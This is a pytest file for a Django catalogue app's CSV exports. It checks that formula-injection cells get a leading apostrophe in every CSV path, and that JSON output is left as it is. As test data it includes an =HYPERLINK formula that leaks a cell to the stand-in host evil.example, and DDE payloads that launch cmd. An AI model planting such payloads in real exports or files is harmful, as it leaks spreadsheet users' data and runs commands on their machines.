"""CSV formula injection (issue 10, item 5): a cell beginning with = + - @, a tab or a carriage
return is written so that a spreadsheet shows it as text, in every CSV the product writes, through
one function (``platforms.exporters.cells.spreadsheet_safe``)."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from platforms.exporters.cells import FORMULA_PREFIXES, restore_cell, spreadsheet_safe
from tests.exports.conftest import body_of, csv_records
from tests.factories import AdoptionFactory, OrganisationFactory, PublishedPlatformFactory

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
FORMULAS = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_safe(cell: str, original: str) -> None:
    assert cell == "'" + original
    assert not cell.startswith(FORMULA_PREFIXES)


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_leading_apostrophe(value):
    assert_safe(spreadsheet_safe(value), value)
    assert restore_cell(spreadsheet_safe(value)) == value


@pytest.mark.parametrize("value", ["GOV.UK Pay", "", "'quoted'", "a=b", "2024-01-01", "x-y"])
def test_plain_cells_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_non_text_is_left_alone():
    assert spreadsheet_safe(-1) == -1
    assert spreadsheet_safe(None) is None


@given(st.text())
def test_restoring_gives_back_exactly_what_was_written(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert restore_cell(safe) == value


@pytest.fixture
def hostile(db):
    """Names, use cases and notes that users typed as formulas."""
    owner = OrganisationFactory(slug="owner-body", name="@owner body", abbreviation="=1+1")
    platform = PublishedPlatformFactory(
        slug="hostile", name=LINK, summary="+cmd|' /C calc'!A0", owner=owner, hosting="-2+3"
    )
    AdoptionFactory(
        platform=platform,
        organisation=OrganisationFactory(slug="adopter"),
        use_case="@SUM(1+1)",
        notes="\t=1+1",
    )
    return platform


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_platform_list_csv(api_client, hostile):
    (record,) = csv_records(api_client.get("/api/v1/platforms/?format=csv"))
    assert_safe(record["name"], LINK)
    assert_safe(record["summary"], "+cmd|' /C calc'!A0")
    assert_safe(record["owner.name"], "@owner body")


def test_the_adoption_list_csv(api_client, hostile):
    (record,) = csv_records(api_client.get("/api/v1/platforms/hostile/adoptions/?format=csv"))
    assert_safe(record["use_case"], "@SUM(1+1)")
    assert_safe(record["notes"], "\t=1+1")
    assert_safe(record["platform.name"], LINK)


def test_the_platforms_export(api_client, hostile):
    (record,) = csv_records(api_client.get("/api/v1/exports/platforms.csv"))
    assert_safe(record["name"], LINK)
    assert_safe(record["summary"], "+cmd|' /C calc'!A0")
    assert_safe(record["hosting"], "-2+3")


def test_the_adoptions_export(api_client, hostile):
    (record,) = csv_records(api_client.get("/api/v1/exports/adoptions.csv"))
    assert_safe(record["use_case"], "@SUM(1+1)")
    assert_safe(record["notes"], "\t=1+1")


def test_the_organisations_export(api_client, hostile):
    records = {
        r["slug"]: r for r in csv_records(api_client.get("/api/v1/exports/organisations.csv"))
    }
    assert_safe(records["owner-body"]["name"], "@owner body")
    assert_safe(records["owner-body"]["abbreviation"], "=1+1")


@pytest.mark.parametrize("resource", ["platforms", "adoptions", "organisations"])
def test_the_export_command(hostile, resource, tmp_path):
    out = tmp_path / f"{resource}.csv"
    call_command("export_catalogue", "--format", "csv", "--resource", resource, "--output", out)
    stdout = io.StringIO()
    call_command("export_catalogue", "--format", "csv", "--resource", resource, stdout=stdout)
    for text in (out.read_text(encoding="utf-8"), stdout.getvalue()):
        cells = [cell for row in _rows(text) for cell in row.values()]
        assert cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
        assert any(cell.startswith("'") for cell in cells)


def test_json_keeps_the_text_as_it_is(api_client, hostile):
    # JSON is data, not a spreadsheet: nothing to neutralise, and nothing changed.
    (record,) = json.loads(body_of(api_client.get("/api/v1/exports/platforms.json")))
    assert record["name"] == LINK
    text = body_of(api_client.get("/api/v1/platforms/?format=json"))
    assert "'=HYPERLINK" not in text
